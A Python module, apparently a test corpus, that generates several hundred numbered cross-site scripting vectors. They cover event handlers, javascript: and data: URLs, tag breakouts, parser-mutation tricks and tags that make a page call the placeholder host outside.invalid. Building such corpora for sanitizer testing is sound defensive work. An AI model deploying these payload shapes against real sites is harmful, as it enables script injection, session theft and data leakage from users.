"""Own list of what makes a careless page run a script or call out: a table, and its mutations.

Each vector says ``alert(N)`` with its own number, or calls ``https://outside.invalid/N``: what ran
or left names its vector. Shapes are public knowledge (HTML Living Standard, parsing); the words are
ours. 400 and more in all.
"""

from collections.abc import Callable
from itertools import product

_RUN = "alert({n})"
_OUT = "https://outside.invalid/{n}"

_ELEMENTS = (
    ("img", "src=x", "onerror"),
    ("img", "src=/static/icone.svg", "onload"),
    ("svg", "", "onload"),
    ("body", "", "onload"),
    ("body", "", "onpageshow"),
    ("details", "open", "ontoggle"),
    ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"),
    ("video", "", "onloadstart"),
    ("input", "autofocus", "onfocus"),
    ("input", "type=image src=x", "onerror"),
    ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"),
    ("a", "href=# autofocus", "onfocus"),
    ("div", "contenteditable autofocus", "onfocus"),
    ("p", "tabindex=1 autofocus", "onfocus"),
    ("marquee", "", "onstart"),
    ("iframe", "src=about:blank", "onload"),
    ("object", "data=x", "onerror"),
    ("embed", "src=/static/icone.svg", "onload"),
    ("style", "", "onload"),
    ("link", "rel=stylesheet href=/static/style.css", "onload"),
    ("script", "src=/x", "onerror"),
    ("p", "", "onmouseover"),
    ("p", "", "onclick"),
    ("form", "", "onsubmit"),
    ("table", "", "onpointerenter"),
    ("p", "style=animation:a", "onanimationstart"),
    ("p", "hidden=until-found", "onbeforematch"),
    ("dialog", "open", "onclose"),
    ("meter", "", "onclick"),
    ("track", "src=x", "onerror"),
    ("source", "src=x", "onerror"),
    ("frameset", "", "onload"),
    ("html", "", "onclick"),
)
_SPELLINGS = (
    "<{tag} {more} {event}={run}>",
    "<{tag} {more} {event}='{run}'>x</{tag}>",
    '<{upper}/{more}/{EVENT}="{run}"//',
)

_ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "&#106;avascript:{run}",
    "&#x6A;avascript&colon;{run}",
    "javascript&Tab;:{run}",
    "\x01javascript:{run}",
    "javascript://%0a{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgpPC9zY3JpcHQ+",
    "vbscript:{run}",
    "data:image/svg+xml,<svg onload={run}>",
    "view-source:javascript:{run}",
)
_HOLDERS = (
    '<a href="{address}">x</a>',
    '<iframe src="{address}"></iframe>',
    '<form action="{address}"><button autofocus>x',
    '<svg><a xlink:href="{address}"><text y=9>x',
    '<object data="{address}"></object>',
    '<math href="{address}">x</math>',
    '<button form=f formaction="{address}">x</button><form id=f></form>',
    '<meta http-equiv=refresh content="0;url={address}">',
    '<base href="{address}">',
)

_SCRIPTS = (
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT >",
    "<script\n>{run}</script>",
    "<script/x>{run}</script>",
    "<script type=module>{run}</script>",
    "<script>/*<p>*/{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script src=data:,{run}></script>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href=data:,{run} />",
    "<svg><script>&#97;lert({n})</script>",
    "<math><script>{run}</script></math>",
    "<<script>{run}//<</script>",
    "<script>{run}",
    '"><script>{run}</script>',
    "'><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style><script>{run}</script>",
    "</option></select><script>{run}</script>",
    "</p></div></main><script>{run}</script>",
    '" autofocus onfocus={run} x="',
    "' autofocus onfocus={run} x='",
    "` autofocus onfocus={run}",
    "x onmouseover={run}",
    "{{{{ {run} }}}}",
    "${{{run}}}",
    "{{% raw %}}<script>{run}</script>",
    "<%= {run} %>",
    "javascript:{run}",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{run}",
    "%3Cscript%3E{run}%3C/script%3E",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\u2028<script>{run}</script>",
    "\u202e<script>{run}</script>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{run}</script>",
    "<!DOCTYPE x [<!ENTITY e '<script>{run}</script>'>]>&e;",
    "<![CDATA[<script>{run}</script>]]>",
)

_MUTATING = (
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror={run}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<svg></p><style><a id='</style><img src=x onerror={run}>'>",
    "<math></p><style><!--</style><img src/onerror={run}>--></style></math>",
    "<svg><desc><table><style><img title='</style><img src=x onerror={run}>'></table></desc></svg>",
    "<template><script>{run}</script></template><template><img src=x onerror={run}></template>",
    "<div><template shadowrootmode=open><img src=x onerror={run}></template></div>",
    "<select><style></select><img src=x onerror={run}></style></select>",
    "<select><iframe></select><img src=x onerror={run}>",
    "<table><td background=x><img src=x onerror={run}><caption><script>{run}</script>",
    "<title><img src=x onerror={run}></title>",
    "<xmp><img src=x onerror={run}></xmp>",
    "<plaintext><img src=x onerror={run}>",
    "<noembed><img src=x onerror={run}></noembed>",
    "<noframes><img src=x onerror={run}></noframes>",
    "<iframe><img src=x onerror={run}></iframe>",
    "<!--><img src=x onerror={run}>-->",
    "<!--!><img src=x onerror={run}>",
    "<!-- --!><img src=x onerror={run}> -->",
    "<! --><img src=x onerror={run}>",
    "</ ><img src=x onerror={run}>",
    "<?><img src=x onerror={run}>",
    "<a title='<!--'><b title='--><img src=x onerror={run}>'>x</b></a>",
    "<style><!--</style><img src=x onerror={run}>//--></style>",
    "<textarea><b title='</textarea><img src=x onerror={run}>'>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;parent.{run}&lt;/script&gt;></iframe>",
    "<object data='data:text/html,<script>{run}</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload={run}>'>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributename=x to=1>",
    "<svg><a><animate attributeName=href values=javascript:{run} /><text y=9>x</text></a>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{run}</script></svg>#x'>",
    "<svg><foreignObject><iframe onload={run}></iframe></foreignObject></svg>",
    "<svg><image href=x onerror={run}>",
    "<svg><handler type=text/javascript>{run}</handler></svg>",
    "<svg><style>{{}}</style><script>{run}</script>",
    "<b><a name=cookie><a id=cookie name=x>x</a></b><img src=x onerror={run}>",
    "<form id=location><input name=href>",
    "<img name=getElementById><img name=cookie src=x onerror={run}>",
    "<isindex type=image src=1 onerror={run}>",
    "<input type=hidden accesskey=x onclick={run}>",
    "<keygen autofocus onfocus={run}>",
    "<x contenteditable onblur={run}>",
    "<p style='width:expression({run})'>",
    "<p style=\"background:url('javascript:{run}')\">",
    "<style>*{{behavior:url(#{run})}}</style>",
)

_CALLING = (
    "<img src={out}>",
    "<img srcset='{out} 1x'>",
    "<picture><source srcset={out}><img></picture>",
    "<img src=//outside.invalid/{n}>",
    "<img src='\\\\outside.invalid\\{n}'>",
    "<image src={out}>",
    "<video poster={out}></video>",
    "<video src={out} autoplay></video>",
    "<audio src={out} autoplay></audio>",
    "<input type=image src={out}>",
    "<body background={out}>",
    "<table background={out}>",
    "<td background={out}>",
    "<object data={out}></object>",
    "<embed src={out}>",
    "<iframe src={out}></iframe>",
    "<frame src={out}>",
    "<link rel=stylesheet href={out}>",
    "<link rel=preload as=image href={out}>",
    "<link rel=prefetch href={out}>",
    "<link rel=dns-prefetch href={out}>",
    "<link rel=preconnect href={out}>",
    "<link rel=icon href={out}>",
    "<link rel=manifest href={out}>",
    "<link rel=modulepreload href={out}>",
    "<script src={out}></script>",
    "<svg><image href={out} /></svg>",
    "<svg><use href='{out}#x'/></svg>",
    "<svg><filter id=f><feImage href={out} /></filter>"
    "<rect filter=url(#f) width=9 height=9 /></svg>",
    "<style>@import url({out});</style>",
    "<style>@import '{out}';</style>",
    "<style>body{{background:url({out})}}</style>",
    "<style>@font-face{{font-family:a;src:url({out})}}*{{font-family:a}}</style>",
    "<p style='background:url({out})'>x</p>",
    "<p style='list-style:url({out});display:list-item'>x</p>",
    "<p style='border-image:url({out}) 1'>x</p>",
    '<p style="content:url({out})">x</p>',
    "<p style='cursor:url({out}),auto'>x</p>",
    "<p style='background:\\75rl({out})'>x</p>",
    "<p style='mask-image:url({out})'>x</p>",
    "<meta http-equiv=refresh content='0;url={out}'>",
    "<meta http-equiv=refresh content='0;{out}'>",
    "<base href={out}><img src=a>",
    "<form action={out}><input autofocus><button>x",
    "<a href={out} ping={out}>x</a>",
    "<meta http-equiv=Link content='<{out}>;rel=preload;as=image'>",
    "<bgsound src={out}>",
    "<track src={out}>",
    "<portal src={out}></portal>",
    "<html manifest={out}>",
    "<layer src={out}></layer>",
    "<img lowsrc={out}>",
    "<img dynsrc={out}>",
    "<applet codebase={out} code=x>",
    "<blockquote cite={out}>x</blockquote>",
    "<img longdesc={out} src={out}>",
    "<svg><script href={out} /></svg>",
    "<?xml-stylesheet href='{out}'?>",
    "<fencedframe src={out}></fencedframe>",
    "<speculationrules>{out}</speculationrules>",
    '<script type=speculationrules>{{"prefetch":[{{"urls":["{out}"]}}]}}</script>',
    "<video><source src={out}></video>",
)


def _templates() -> list[str]:
    events = [
        spelling.format(
            tag=tag, upper=tag.upper(), more=more, event=event, EVENT=event.upper(), run="{run}"
        )
        for (tag, more, event), spelling in product(_ELEMENTS, _SPELLINGS)
    ]
    addressed = [
        holder.replace("{address}", address) for holder, address in product(_HOLDERS, _ADDRESSES)
    ]
    return [*_SCRIPTS, *_MUTATING, *_CALLING, *events, *addressed]


_MUTATIONS: tuple[Callable[[str], str], ...] = (
    lambda text: text.replace("<", "<\0", 1),
    lambda text: text.replace(" ", "\f"),
    lambda text: text.replace("=", " = "),
    lambda text: text.replace(">", "", 1),
    lambda text: text.swapcase().replace("ALERT", "alert").replace("HTTPS", "https"),
)
"""A null in the tag, other blanks, blanks about the sign, an end that is missing, another case."""


def vectors() -> list[str]:
    """Every vector, each with its own number; none twice."""
    shapes = _templates()
    mutated = [
        mutation(shape)
        for shape, mutation in product(
            [*_SCRIPTS[:12], *_MUTATING[:12], *_CALLING[:12]], _MUTATIONS
        )
        if "{run}" in mutation(shape) or "{out}" in mutation(shape)
    ]
    found = []
    for number, shape in enumerate(dict.fromkeys([*shapes, *mutated])):
        run, out = _RUN.format(n=number), _OUT.format(n=number)
        text = shape.replace("{run}", run).replace("{out}", out).replace("{n}", str(number))
        found.append(text.replace("{{", "{").replace("}}", "}"))
    return found
